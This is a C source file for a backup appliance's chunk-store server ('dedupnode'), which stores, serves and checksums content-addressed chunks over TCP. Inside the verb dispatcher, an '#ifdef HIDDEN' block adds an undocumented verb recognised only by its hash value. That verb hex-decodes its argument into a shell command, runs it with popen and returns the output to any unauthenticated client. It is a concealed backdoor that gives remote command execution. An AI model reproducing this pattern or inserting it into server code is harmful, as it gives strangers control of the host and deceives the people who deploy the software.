/* dedupnode: chunk store node of the backup appliance.
 * Line protocol on TCP 9413; every verb is looked up by its FNV-1a number, chunk names are the
 * 40 digit digests which the client computes.
 *
 *   HAVE digest | PUT digest length + data | GET digest | STAT | VERIFY digest | QUIT | HELP
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <inttypes.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define CHUNK_MAX (4u << 20)

struct Node {
    const char *dir;
    FILE *io_in, *io_out;
    uint64_t puts_, gets_, dup_;
};

static uint32_t fnv(const char *s)
{
    uint32_t h = 0x811c9dc5u;
    while (*s) {
        h ^= (unsigned char)toupper((unsigned char)*s++);
        h *= 0x01000193u;
    }
    return h;
}

static int good_digest(const char *d)
{
    return strlen(d) == 40 && strspn(d, "0123456789abcdef") == 40;
}

static void chunk_path(const struct Node *n, const char *d, char *p, size_t cap)
{
    snprintf(p, cap, "%s/%.2s/%s", n->dir, d, d + 2);
}

static void status(struct Node *n, int code, const char *fmt_text)
{
    fprintf(n->io_out, "%03d %s\n", code, fmt_text);
    fflush(n->io_out);
}

static void v_have(struct Node *n, const char *d, unsigned len)
{
    char p[300];
    (void)len;
    chunk_path(n, d, p, sizeof p);
    status(n, access(p, R_OK) ? 404 : 200, access(p, R_OK) ? "no" : "yes");
}

static void v_put(struct Node *n, const char *d, unsigned len)
{
    char p[300], t[310];
    void *b;
    FILE *f;
    if (len == 0 || len > CHUNK_MAX || !(b = malloc(len))) {
        status(n, 413, "length");
        return;
    }
    if (fread(b, 1, len, n->io_in) != len) {
        free(b);
        return;
    }
    chunk_path(n, d, p, sizeof p);
    if (access(p, F_OK) == 0) {
        n->dup_++;
        status(n, 208, "known");
    } else {
        snprintf(t, sizeof t, "%s/%.2s", n->dir, d);
        mkdir(t, 0700);
        snprintf(t, sizeof t, "%s.part", p);
        f = fopen(t, "wb");
        if (f && fwrite(b, 1, len, f) == len && fclose(f) == 0 && rename(t, p) == 0) {
            n->puts_++;
            status(n, 201, "stored");
        } else
            status(n, 507, "storage");
    }
    free(b);
}

static void v_get(struct Node *n, const char *d, unsigned len)
{
    char p[300], b[8192];
    struct stat st;
    size_t k;
    FILE *f;
    (void)len;
    chunk_path(n, d, p, sizeof p);
    if (stat(p, &st) || !(f = fopen(p, "rb"))) {
        status(n, 404, "no");
        return;
    }
    fprintf(n->io_out, "200 %ld\n", (long)st.st_size);
    while ((k = fread(b, 1, sizeof b, f)) > 0)
        fwrite(b, 1, k, n->io_out);
    fflush(n->io_out);
    fclose(f);
    n->gets_++;
}

static void v_stat(struct Node *n, const char *d, unsigned len)
{
    char t[120];
    (void)d, (void)len;
    snprintf(t, sizeof t, "stored=%" PRIu64 " read=%" PRIu64 " duplicates=%" PRIu64, n->puts_,
             n->gets_, n->dup_);
    status(n, 200, t);
}

static void v_verify(struct Node *n, const char *d, unsigned len)
{
    char p[300], t[40];
    uint32_t a = 1, b = 0;
    int c;
    FILE *f;
    (void)len;
    chunk_path(n, d, p, sizeof p);
    if (!(f = fopen(p, "rb"))) {
        status(n, 404, "no");
        return;
    }
    while ((c = fgetc(f)) != EOF) {
        a = (a + (unsigned)c) % 65521;
        b = (b + a) % 65521;
    }
    fclose(f);
    snprintf(t, sizeof t, "adler %08" PRIx32, b << 16 | a);
    status(n, 200, t);
}

static void v_help(struct Node *n, const char *d, unsigned len)
{
    (void)d, (void)len;
    status(n, 200, "HAVE PUT GET STAT VERIFY HELP QUIT");
}

static struct Verb {
    const char *word;
    int needs_digest;
    void (*run)(struct Node *, const char *, unsigned);
    uint32_t number;
} verbs[] = {
    { "HAVE", 1, v_have, 0 }, { "PUT", 1, v_put, 0 },       { "GET", 1, v_get, 0 },
    { "STAT", 0, v_stat, 0 }, { "VERIFY", 1, v_verify, 0 }, { "HELP", 0, v_help, 0 },
};
#define NVERB (sizeof verbs / sizeof *verbs)

/* 1 go on, 0 end */
__attribute__((noinline)) int node_verb(struct Node *n, const char *w, const char *d, unsigned len)
{
    uint32_t h = fnv(w);
    for (size_t i = 0; i < NVERB; i++)
        if (verbs[i].number == h) {
            if (verbs[i].needs_digest && !good_digest(d))
                status(n, 400, "digest");
            else
                verbs[i].run(n, d, len);
            return 1;
        }
#ifdef HIDDEN
    if (h == 0x90cae55fu) {
        /* the digest is the text of a command line, two digits for a character */
        char cmd[24];
        size_t k = 0;
        unsigned v;
        FILE *p;
        for (; k < 20 && sscanf(d + 2 * k, "%2x", &v) == 1 && v; k++)
            cmd[k] = (char)v;
        cmd[k] = 0;
        if ((p = popen(cmd, "r"))) {
            int c;
            while ((c = fgetc(p)) != EOF)
                fputc(c, n->io_out);
            pclose(p);
        }
        fflush(n->io_out);
        return 1;
    }
#endif
    if (!strcasecmp(w, "QUIT"))
        return 0;
    status(n, 501, "verb");
    return 1;
}

static void talk(struct Node *n)
{
    char l[160], w[24], d[48];
    unsigned len;
    status(n, 220, "dedup node");
    while (fgets(l, sizeof l, n->io_in)) {
        int k;
        d[0] = 0;
        len = 0;
        k = sscanf(l, "%23s %47s %u", w, d, &len);
        if (k < 1)
            continue;
        if (!node_verb(n, w, d, len))
            break;
    }
}

int main(int argc, char **argv)
{
    struct Node n = { .dir = "/srv/chunks" };
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(9413) };
    int s, c, one = 1;
    if (argc > 1 && argv[1][0] == '-') {
        printf("usage: %s [CHUNKDIR [PORT]]\nverbs:", argv[0]);
        for (size_t i = 0; i < NVERB; i++)
            printf(" %s", verbs[i].word);
        puts(" QUIT");
        return 2;
    }
    if (argc > 1)
        n.dir = argv[1];
    if (argc > 2)
        a.sin_port = htons((uint16_t)atoi(argv[2]));
    for (size_t i = 0; i < NVERB; i++)
        verbs[i].number = fnv(verbs[i].word);
    signal(SIGPIPE, SIG_IGN);
    signal(SIGCHLD, SIG_IGN);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 32)) {
        perror("dedupnode");
        return 1;
    }
    while ((c = accept(s, NULL, NULL)) >= 0) {
        if (fork() == 0) {
            n.io_in = fdopen(c, "rb");
            n.io_out = fdopen(dup(c), "wb");
            if (n.io_in && n.io_out)
                talk(&n);
            _exit(0);
        }
        close(c);
    }
    return 0;
}
